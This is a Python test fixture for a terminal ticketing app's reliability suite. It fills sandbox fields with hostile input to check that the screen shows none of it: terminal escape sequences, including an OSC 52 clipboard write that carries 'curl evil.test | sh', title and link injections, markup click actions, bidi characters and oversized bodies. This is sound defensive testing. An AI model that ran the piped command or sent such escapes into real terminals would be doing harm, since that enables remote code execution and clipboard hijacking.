"""Shared set-up for the reliability suite: a demo sandbox we can poison or break, and what the
terminal really receives.

Holds no tests itself. `plant` poisons the sandbox's data (tests/ui/harness.py's `demo_app_with`
hands the demo session to such a step before the first screen loads); `screen_lines` and
`screen_segments` read the composed screen. `until` and the sandbox readers are
tests/pilot_support.py's, the ticket host tests/ui/harness.py's.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

from rich.segment import Segment

from fstui.sandbox.data.threads import Thread
from fstui.sandbox.db import SandboxDB
from fstui.ui.app import FstuiApp

FIXED_NOW = datetime(2026, 11, 24, 9, 30, tzinfo=UTC)
TICKETS = 60

# -- the poison ------------------------------------------------------------------------------

CLIPBOARD_PAYLOAD = "curl evil.test | sh"
OSC52 = "\x1b]52;c;" + base64.b64encode(CLIPBOARD_PAYLOAD.encode()).decode() + "\x07"
OSC_TITLE = "\x1b]0;PWNED-TITLE\x07\x1b]2;PWNED-TITLE\x1b\\"
OSC_LINK = "\x1b]8;;https://evil.test\x1b\\"
ANSI = "\x1b[31;1mRED\x1b[0m\x1b[2J\x1b[H"
C0_C1 = "\x00\x07\x08\x0e\x1f\x7f\x85\x90x\x9c\x9b31m\x9d0;t\x07"
MARKUP = "[bold]B1[/bold] [@click=app.quit]CLICKME[/] [link=https://evil.test]LINKME[/link]"
BIDI = "\u202eEVIL\u202c\u2066iso\u2069 zero\u200bwid\u200dth\ufeff"
HOSTILE = f"{OSC52}{OSC_TITLE}{OSC_LINK}{ANSI}{C0_C1}{MARKUP} {BIDI}"
"""Every kind of attack in one string; what must survive is the literal text around them."""

LITERAL_MARKUP = ("[bold]B1[/bold]", "[@click=app.quit]CLICKME[/]")
"""Markup that must be shown character for character (short enough to fit a narrow cell)."""

MARKERS = ("RED", "CLICKME", "B1")
"""Words that must stay visible (the text around the escapes is content, not attack)."""

FORBIDDEN = ("PWNED-TITLE", "evil.test | sh", "52;c;")
"""Payload text that must never reach the screen: it only exists inside escape sequences."""

LONG_LINE = "L" * 10_000
MEGABYTE = ("lorem ipsum dolor sit amet " * 40 + "\n") * 960  # ~1 MB of text with newlines
DEEP_HTML = "<div>" * 3000 + "deep-inside" + "</div>" * 3000


def hostile_body(big: bool) -> str:
    """An HTML conversation/description body: escapes, markup, long lines, deep nesting."""
    parts = [
        f"<p>{HOSTILE}</p>",
        f"<p>{LONG_LINE}</p>",
        DEEP_HTML,
        "<p><a href='javascript:alert(1)'>[@click=app.quit]anchor[/]</a></p>",
    ]
    if big:
        parts.append(f"<pre>{MEGABYTE}</pre>")
    return "".join(parts)


def plant(db: SandboxDB, *, big_for: Callable[[int], bool] = lambda _id: False) -> None:
    """Poison every field the app shows: tickets, threads, people, assets."""
    for person in (*db.requesters, *db.agents[1:]):
        person["first_name"] = f"{HOSTILE}Eve"
        person["last_name"] = f"{MARKUP}"
        person["job_title"] = HOSTILE
    for ticket_id, row in db.tickets.items():
        row["subject"] = f"SUBJ {HOSTILE}"
        row["tags"] = [f"tag{HOSTILE}", "[red]tag2[/red]"]
        row["custom_fields"] = {
            **(row.get("custom_fields") or {}),
            "affected_service": f"svc {HOSTILE}",
        }
        big = big_for(ticket_id)
        db.descriptions[ticket_id] = (hostile_body(big), HOSTILE + (MEGABYTE if big else ""))
        thread = db.thread(ticket_id)
        conversations = thread.conversations or [_conversation(db, ticket_id, row)]
        for conversation in conversations:
            conversation["body"] = hostile_body(big)
            conversation["body_text"] = HOSTILE
        db.threads[ticket_id] = Thread(conversations, thread.time_entries, thread.tasks)
        for task in thread.tasks:
            task["title"] = HOSTILE
            task["description"] = HOSTILE
        for entry in thread.time_entries:
            entry["note"] = HOSTILE
    for asset in db.assets.values():
        asset["name"] = f"ASSET {HOSTILE}"
        asset["description"] = HOSTILE + LONG_LINE
        asset["asset_tag"] = f"TAG{MARKUP}"
        asset["type_fields"] = {key: f"F{HOSTILE}" for key in asset.get("type_fields") or {}}


def _conversation(db: SandboxDB, ticket_id: int, row: dict[str, Any]) -> dict[str, Any]:
    return {
        "id": db.new_child_id(),
        "body": "",
        "body_text": "",
        "incoming": True,
        "private": False,
        "created_at": row["updated_at"],
        "updated_at": row["updated_at"],
        "user_id": row["requester_id"],
        "support_email": None,
        "source": 0,
        "ticket_id": ticket_id,
        "to_emails": [],
        "from_email": None,
        "cc_emails": [],
        "bcc_emails": None,
        "attachments": [],
    }


def give_me_open_tickets(db: SandboxDB, count: int) -> list[int]:
    """Assign the first `count` open tickets to the demo agent, so "My open" (the first queue)
    has rows; returns their ids."""
    ids = [t for t, row in db.tickets.items() if row["status"] == 2][:count]
    for ticket_id in ids:
        db.tickets[ticket_id]["responder_id"] = db.me_id
    return ids


# -- what the terminal receives --------------------------------------------------------------


def screen_segments(app: FstuiApp) -> list[list[Segment]]:
    """The composed screen, line by line, exactly as it would be written to the terminal."""
    strips = app.screen._compositor.render_strips()
    return [list(strip) for strip in strips]


def screen_lines(app: FstuiApp) -> list[str]:
    return ["".join(segment.text for segment in line) for line in screen_segments(app)]


def control_characters(text: str) -> list[str]:
    """C0, DEL, C1, bidi controls and zero-width characters present in `text`."""
    return [repr(char) for char in text if _invisible_or_control(ord(char))]


def _invisible_or_control(code: int) -> bool:
    controls = code < 0x20 or 0x7F <= code < 0xA0
    zero_width = 0x200B <= code <= 0x200F or code == 0xFEFF
    bidi = 0x202A <= code <= 0x202E or 0x2066 <= code <= 0x2069
    return controls or zero_width or bidi
